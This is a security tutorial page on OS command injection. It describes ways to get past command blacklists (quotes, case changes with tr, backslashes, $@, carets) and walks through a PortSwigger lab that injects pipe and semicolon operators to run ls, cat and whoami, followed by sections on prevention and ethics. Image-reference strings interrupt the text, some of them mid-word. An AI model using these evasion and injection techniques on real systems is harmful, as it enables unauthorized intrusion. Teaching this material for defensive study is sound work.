Bypassing blacklisted commands on Linux and Windows

  • Using an obfuscation technique by insertingsingle(‘) or double quotes (“).

The simple and easy way that works on both Linux and Windows servers is using single quotes to obfuscate a command. To obfuscate a command usingquotes is simple, just add single quotes between the command’s characters:


The important thing to remember is that you cannot mix single or double quotes, and the number of quotes must be even.

  • Using Case manipulation

Another command obfuscation technique is case manipulation, which includes inverting the character cases of a command (dir ➡ DIR) or alternating between cases(dir ➡ DIR), thisworks only on Windows since the commands are case-insensitive and not on Linux because the commands are case-sensitive.

On Linux, we can use the tr command which is a command line utility on UNIX for translating or deleting characters.

tr "[A-Z]" "[a-z]"<<<"GreP"

This command uses tr to replace all uppercase characters with lower-case characters, which results in an all lower-case command.

Since the command contains spaces we can utilize the technique shown before for bypassing filters for blacklisted spaces, which results in the command below:


Linux Only

Another way to bypass filtered commands for Linux is using backlash (\) or the positional parameter character $@. This works like the technique with the quotes, but the number of characters does not have to be even.



Windows Only

This way is the same as the Linux-only characters used to bypass filtered commands, but with the caret character (^).


OS command Injection example lab

Solving Portswigger’s Lab: OS command injection, simple case.

  • This lab contains an OS command injection vulnerability in the product stock checker.

  • The application executes a shell command containing user-supplied input and returns the response of the command’s raw output.

  • The goal is to execute the whoami command

Access the lab.

Since we know that the injection vulnerability lies on the product stock checker, we should then navigate to a product and intercept the POST request (the one that checks the availability of the stock).

POST Request in Burp:

The POST request contains two parameters, productid, and storeID.Let’s try and inject an operator (ampersand, &) with an ls command at the end of the payload.

We can see that the only output is the available stock in number.

Now let’s try using a different operator (pipe, |).

The pipe (|) operator worked (semicolon also works (;), but the job can be done also with pipe) and we can now see the output of our injected command which is the (the second output is only shown due to the operator used, check the cheat-sheet above).

We can then move on and play around before executing the whoami command by using cat to check the content of the script. If the script was on a real web application, just by using cat you could be able to steal data likeAPIs, tokens, etc., that could be in use in the script, thus making this vulnerability even worse.

Then execute the whoami command:

The user is peter-LNs5BY in our example, successfully completing the lab.

After you perform the request with the whoami command, the page updates to:

That was an easy lab without any BE, FE validation for the user inputor WAF, but you get the point when it comes to injecting the commands or how to think upon finding the injection point.


Prevention of OS command can be a whole write-up by itself but some general guidelines could be:

  • Avoid using functions that execute system commands, and instead, use built-in functions that perform the required functionality as mostlanguages have a secure implementation of these functionalities.

  • Then you should still use input validation for built-in functions or system command execution functions. Input validation is required because ensures that the input meets the expected format. Input validation should be done both, at the front-end and the back-end.

  • Last but more important is input sanitization, which removes unnecessary special characters from the user input. Most languages have built-in functions for removing any special characters from the user input.

Only a primer

Since Injections ranked 3rd on the OWASP Top Ten most critical web application security risks in 2021, it should be of very high importance for every developer to mitigate the risks involving OS command injection vulnerabilities, and for a security researcher to expand their knowledge on the matter.

As many web applications have millions of lines of code, any single mistake may introduce a vulnerability, by implementing secure coding best practices and then thorough penetration testing we can be assured that the risks of such vulnerabilities are mitigated to the minimum.Command injection is a type of security vulnerability that occurs when an attacker is able to execute arbitrary commands on a host operating system via a vulnerable application. Understanding the advantages and disadvantages of command injection can be crucial for both attackers (to understand its utility) and defenders (to mitigate the risks). Here's a breakdown:

Advantages of CommandInjection

  1. High Impact:

    • System Control: Successful exploitation can give attackers control over the target system, potentially allowing them to access sensitive data, modify system settings, and install malicious software.

    • WideScope: Since the attacker can execute arbitrary commands, the range of potential damage is extensive, including data theft, data destruction, and further network penetration.

  2. Versatility:

    • Cross-Platform: Command injection can affect various operating systems (Windows, Linux, macOS) as long as they accept and execute system commands.

    • Exploitation of Various Services: It can be used against different types ofservices and applications, such as web applications, network services, and even IoT devices.

  3. Stealth:

    • Minimal Footprint: Command injection can be difficult to detect if the commands are carefully crafted to avoid raising alarms, especially if they blend in with normal system operations.

    • Direct Execution: Commands are executed directly on the system, often without requiring the attacker to upload any additional files, making the attack less detectable by traditional security mechanisms.

Disadvantages of Command Injection

  1. Detection and Mitigation:

    • Logging and Monitoring: Many systems have extensive logging and monitoringmechanisms that can detect unusual command execution patterns, potentially leading to rapid identification and response.

    • Input Sanitization: Modern secure coding practices and frameworks increasingly incorporate robust input validation and sanitization, making it harder to find vulnerable systems.

  2. Limited by System Permissions:

    • Privilege Levels: The effectiveness of command injection can be limited by the privileges of the compromised application. If the application runs with limited permissions, the impact of the attack may be constrained.

    • Sandboxing and Security Controls: Systems often employ measures like sandboxing, SELinux, AppArmor, and other mandatory access controls that can limit the damage an injected command can do.

  3. Complexity and Environment Specificity:

    • Environment Dependency: The success of command injection depends on specific environmental factors, such as the operating system, available commands, and system configuration.

    • Complex Exploitation: Crafting effective payloads for command injection can be complex, requiring detailed knowledge of the target system and careful construction to avoid detection and ensure functionality.

  4. Potential for Failure:

    • Application Behavior: If the injected commands alter the application's behavior in unexpected ways, it can crash or behave anomalously, potentially alerting administrators to the attack.

    • Error Handling: Some systems may have robust error handling that can detect and nullify command injection attempts, leading to unsuccessful exploitation.Mitigation Strategies

To mitigate the risks associated with command injection, organizations should adopt several best practices:

  • Input Validation and Sanitization: Validate and sanitize all user inputs to ensurethey do not contain executable commands.

  • Principle of Least Privilege: Run applications with the minimum necessary privileges to limit the impact of a potential injection.

  • Use of Safe APIs: Prefer using APIs that do not involve command execution, such as parameterized queries or built-in library functions.

  • Regular Audits and Penetration Testing: Conduct regular security audits and penetration testing to identify and fix vulnerabilities before they can be exploited.

  • Security Patching: Keep systems and software up to date with the latest security patches to address known vulnerabilities.

Understanding the advantages and disadvantages of command injection helps in creating a balanced approach to both exploiting and defending against this type of attack.

Who Can Perform Command Injection in Ethical Hacking?

  1. Ethical Hackers (White Hat Hackers):

    • Role: Ethical hackers are hired by organizations to test their systems and networks for security vulnerabilities. They are authorized to conduct penetration testing to identify weaknesses before malicious hackers can exploit them.

    • Skills: They possess deep technical knowledge of operating systems, networking, and security protocols. They are adept atusing various tools and techniques to discover and exploit vulnerabilities, including command injection.

  2. Penetration Testers:

    • Role: Penetration testers (pen testers) are professionals who simulate cyberattacks against an organization’s IT infrastructure. Their goal is touncover vulnerabilities that could be exploited by attackers.

    • Skills: Pen testers use a variety of methods, including manual testing and automated tools, to find and exploit security weaknesses. They must understand the specific commands and system configurations of the target environment to effectively use command injection techniques.

  3. Security Researchers:

    • Role: Security researchers study and analyze security mechanisms to find new vulnerabilities and improve security practices. They often disclose their findings to the public or the affected organizations to promote better security.

    • Skills: These individuals need to stay updated with the latest security threats and mitigation techniques. They conduct detailed research into software and system behaviors to uncover previously unknown vulnerabilities, including command injection flaws.

Purpose of Command Injection in Ethical Hacking

  • Identify Vulnerabilities: Ethical hackers use command injection to identify security weaknesses in an application’s input handling mechanisms. This helps organizations understand where they are vulnerable.

  • Test Security Controls: By performing command injection, ethical hackers can test the effectiveness of an organization’s security controls, such as input validation and sanitization mechanisms.

  • Improve Security Posture: The findings from command injection testing allow organizations to strengthen their security measures, patch vulnerabilities, and implement best practices to prevent future attacks.

  • Compliance and Regulation: Many industries have regulatory requirements for security testing. Ethical hackers ensure that organizations meet these standards by identifying and helping to mitigate potentialsecurity risks.

Ethical Considerations

  • Authorization: Ethical hackers must have explicit permission from the organization to conduct testing. Unauthorized command injection is illegal and considered malicious hacking.

  • Responsible Disclosure: Whenvulnerabilities are found, ethical hackers follow aresponsible disclosure process, informing the organization and allowing them time to fix the issues before making any details public.

By conducting command injection in an ethical and controlled manner, these professionals help organizations secure their systems against potential threats, thereby contributing to theoverall security of the digital ecosystem.

bottom of page